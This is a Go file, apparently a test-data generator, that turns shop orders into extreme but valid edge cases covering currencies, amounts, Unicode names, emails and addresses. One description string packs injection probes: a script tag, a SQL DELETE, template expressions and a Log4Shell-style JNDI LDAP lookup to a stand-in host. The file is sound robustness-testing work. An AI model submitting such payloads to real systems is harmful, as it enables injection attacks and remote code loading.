package main

import (
	"fmt"
	"strings"

	"github.com/outbox-worker/outbox-worker/examples/shop"
)

// oddities turn ordinary orders into the strangest that are valid.
var oddities = []func(*shop.Order){
	func(o *shop.Order) { // one cent
		o.Currency = "EUR"
		onlyLine(o, shop.Line{SKU: "DOT-1", Title: "A single dot (SVG)", Quantity: 1, UnitPrice: 1, Digital: true})
	},
	func(o *shop.Order) { // one yen: no minor unit to hide in
		o.Currency = "JPY"
		onlyLine(o, shop.Line{SKU: "DOT-1", Title: "点 (SVG)", Quantity: 1, UnitPrice: 1, Digital: true})
	},
	func(o *shop.Order) { // one ten-thousandth of a unidad de fomento
		o.Currency = "CLF"
		onlyLine(o, shop.Line{SKU: "DOT-1", Title: "Un punto (SVG)", Quantity: 1, UnitPrice: 1, Digital: true})
	},
	func(o *shop.Order) { // nine fils
		o.Currency = "KWD"
		onlyLine(o, shop.Line{SKU: "DOT-9", Title: "تسع نقاط", Quantity: 9, UnitPrice: 1, Digital: true})
	},
	func(o *shop.Order) { // as much as an order can cost
		o.Currency = "VND"
		onlyLine(o, shop.Line{SKU: "YACHT-60", Title: "Du thuyền 60 m, có bãi đáp trực thăng", Quantity: 1, UnitPrice: 999_999_999_999})
	},
	func(o *shop.Order) { // many of something, in a currency of large numbers
		o.Currency = "IDR"
		onlyLine(o, shop.Line{SKU: "PAPER-500", Title: "Kertas A4 80 g, 500 lembar", Quantity: 9_999, UnitPrice: 100_010_000})
	},
	func(o *shop.Order) { // as many lines as an order can have
		o.Lines = nil
		for i := range int64(100) {
			o.Lines = append(o.Lines, shop.Line{
				SKU: fmt.Sprintf("STAMP-%03d", i+1), Title: fmt.Sprintf("Postage stamp № %d", i+1), Quantity: 1 + i%7, UnitPrice: 85 + i,
			})
		}
		byPost(o)
	},
	func(o *shop.Order) { // a description as long as it can be, of characters beyond the BMP
		o.Description = strings.Repeat("𝕺𝖗𝖉𝖊𝖗 ", 83) + "𝕺𝕶"
	},
	func(o *shop.Order) { // a gift note as long as it can be, of emoji joined by ZWJ
		byPost(o)
		o.GiftNote = strings.Repeat("👩🏾‍🚀\n", 100)
	},
	func(o *shop.Order) { // a name as long as it can be
		o.Name = strings.Repeat("Pablo Diego José Francisco de Paula Juan Nepomuceno María de los Remedios Cipriano ", 2) + "de la Santísima Trinidad Ruiz Pica"
	},
	func(o *shop.Order) { o.Name = "O" },
	func(o *shop.Order) { // right to left in the middle of left to right, with marks
		o.Name = "Layla \u2067(ليلى بنت عمر)\u2069 O\u2019Brien\u200e"
	},
	func(o *shop.Order) { // the same person, composed here and decomposed in the next
		o.Name, o.Description = "Zo\u00eb Bj\u00f6rk", "caf\u00e9 au lait, 1 \u00c5ngstr\u00f6m"
	},
	func(o *shop.Order) {
		o.Name, o.Description = "Zoe\u0308 Bjo\u0308rk", "cafe\u0301 au lait, 1 A\u030angstro\u0308m"
	},
	func(o *shop.Order) { o.Email = "1@2.3.4.example" },
	func(o *shop.Order) { o.Email = "--@a--b.example" },
	func(o *shop.Order) { o.Email = "!#$%&'*+-/=?^_`{|}~@example.org" },
	func(o *shop.Order) { o.Email = "a+orders+2031.12@sub.sub.sub.example.net" },
	func(o *shop.Order) { // as long as an address can be: 64 before the @, 254 in all
		label := strings.Repeat("l", 63)
		o.Email = strings.Repeat("x", 64) + "@" + label + "." + label + "." + strings.Repeat("d", 53) + ".example"
	},
	func(o *shop.Order) { o.Email = "x@xn--gckr3f0f.xn--zckzah.example" },
	func(o *shop.Order) { // an address of six lines, none of them a number
		byPost(o)
		o.Address = &shop.Address{
			Lines: []string{"c/o Mme Veuve N’Guessan", "Derrière la pharmacie du Progrès", "en face du manguier", "portail bleu", "demander M. « Le Vieux »", "BP s/n"},
			City:  "Grand-Bassam", Region: "Sud-Comoé", Country: "CI",
		}
	},
	func(o *shop.Order) { // text that somebody may take for a language
		o.Description = `</text><script>alert("1")</script> '; DELETE FROM orders -- {{7*7}} ${jndi:ldap://example.com/a} \(.amount) %n%s $1 \u0041`
	},
	func(o *shop.Order) { // separators that some take for line ends
		o.Description = "first\u2028second\u2029third\u00a0fourth\ufefffifth\u202ehtxis\u202c"
	},
	func(o *shop.Order) { o.ID = "2031/12/07-A.1_b" },
	func(o *shop.Order) { o.ID = strings.Repeat("9", 64) },
	func(o *shop.Order) { // samples for free; only the postage is charged
		byPost(o)
		o.Lines = []shop.Line{{SKU: "SAMPLE-INK", Title: "Ink sample 2 ml (free)", Quantity: 3}}
		o.Shipping = 250
	},
	func(o *shop.Order) { // half by post, half by mail
		byPost(o)
		money := currencies[o.Currency]
		o.Lines = []shop.Line{line(goods[firstDigital], money, 1), line(goods[0], money, 1)}
	},
	func(o *shop.Order) { // prices that are no round sum in binary: 0.1 + 0.2
		o.Currency = "TND"
		byPost(o)
		o.Lines = []shop.Line{{SKU: "TENTH-1", Title: "Un dixième", Quantity: 1, UnitPrice: 100}, {SKU: "TENTH-2", Title: "Deux dixièmes", Quantity: 1, UnitPrice: 200}}
		o.Shipping = 7
	},
}

// onlyLine makes it the whole order; digital orders have no parcel.
func onlyLine(o *shop.Order, l shop.Line) {
	o.Lines, o.Shipping, o.Description = []shop.Line{l}, 0, l.Title
	if l.Digital {
		o.Address, o.GiftNote = nil, ""
		return
	}
	byPost(o)
	o.Shipping = 0
}

// byPost sees to it that there is something to send, and where.
func byPost(o *shop.Order) {
	if !parcel(*o) {
		o.Lines = append(o.Lines, line(goods[0], currencies[o.Currency], 1))
	}
	if o.Address == nil {
		o.Address = &shop.Address{Lines: []string{"1 Poste restante"}, City: "Genève", Postcode: "1201", Country: "CH"}
	}
}
